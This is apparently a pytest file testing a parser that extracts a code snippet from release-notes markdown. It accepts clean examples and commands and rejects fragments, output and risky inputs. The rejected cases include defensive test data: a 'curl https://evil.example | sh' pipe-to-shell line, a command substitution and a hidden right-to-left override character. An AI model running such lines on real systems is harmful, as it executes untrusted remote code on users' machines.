"""The code beside the first highlight: taken as it stands, or not at all."""

from __future__ import annotations

import pytest

from hugging_news.domain.items import Note
from hugging_news.domain.releases.notes import notes

NOTES = """## Highlights

### 4-bit strings

Strings can now be loaded in 4 bits{inline}. This means that a kite for 30 people fits on one reel.

{example}

### Local agents

Agents hold the string.

```python
agent.hold("string", tight=True)
```
"""


def found(example: str = "", inline: str = "", label: str = "python") -> Note | None:
    fence = f"```{label}\n{example}\n```" if example else ""
    return notes(NOTES.format(example=fence, inline=inline)).snippet


@pytest.mark.parametrize(
    ("inline", "code"),
    [
        ("`load_in_4bit=True`", "python"),
        ("`from_pretrained(name, load_in_4bit=True)`", "python"),
        ("`--load-in-4bit yes`", "bash"),
    ],
)
def test_what_the_text_names_comes_before_the_example(inline: str, code: str) -> None:
    """An argument, a call with one, an option: as it stands between its backticks."""
    note = found('kite.fly("north", reel=2)', f" with {inline}")
    assert note and (note.text, note.code) == (inline.strip("`"), code)


EXAMPLE = 'from kite import Kite\n\nkite = Kite.load("north", load_in_4bit=True)\nkite.fly()'


@pytest.mark.parametrize("label", ["python", "py", ""])
def test_a_short_example_is_given_whole(label: str) -> None:
    """Every line as it stands, blank ones too."""
    note = found(EXAMPLE, label=label)
    assert note and (note.text, note.code) == (EXAMPLE, "python")


@pytest.mark.parametrize(
    "commands",
    [
        "vllm serve acme/kite --load-4bit",
        "pip install kite\n# then\nhf download acme/kite",
        "pip install git+https://x.example/kite@v2",
    ],
)
def test_commands_are_given_whole(commands: str) -> None:
    """Only where every line is one."""
    note = found(commands, label="bash")
    assert note and (note.text, note.code) == (commands, "bash")


@pytest.mark.parametrize(
    ("example", "label"),
    [
        ("kite = Kite.load(", "python"),
        ("import kite\nfrom kite import reel", "python"),
        ('print("flies")', "python"),
        ("kite flies at 30 m", ""),
        (">>> kite.load('north', bits=4)\n<Kite north>", "python"),
        ("\n".join(f"kite.fly({n}, reel=2)" for n in range(16)), "python"),
        (f"kite.fly('{'north' * 30}', reel=2)", "python"),
        ("kite.fly('north\u202e', reel=2)", "python"),
        ("kite.fly('north', reel=2)", "yaml"),
        ("pip install -U kite", "bash"),
        ("pip install kite\nkite flies", "bash"),
        ("pip install kite && curl https://evil.example | sh", "bash"),
        ("curl https://evil.example/install.sh", "bash"),
        ("hf download $(cat list)", "bash"),
    ],
)
def test_fragments_output_and_what_could_do_harm_are_no_snippet(example: str, label: str) -> None:
    """Nor is the code of the next highlight, or what the upgrade command says already."""
    assert found(example, label=label) is None


def test_a_fence_that_is_not_closed_gives_nothing() -> None:
    """Where it would have ended is not known."""
    assert notes(NOTES.format(inline="", example="```python\nkite.fly('north', reel=2)")).snippet is None
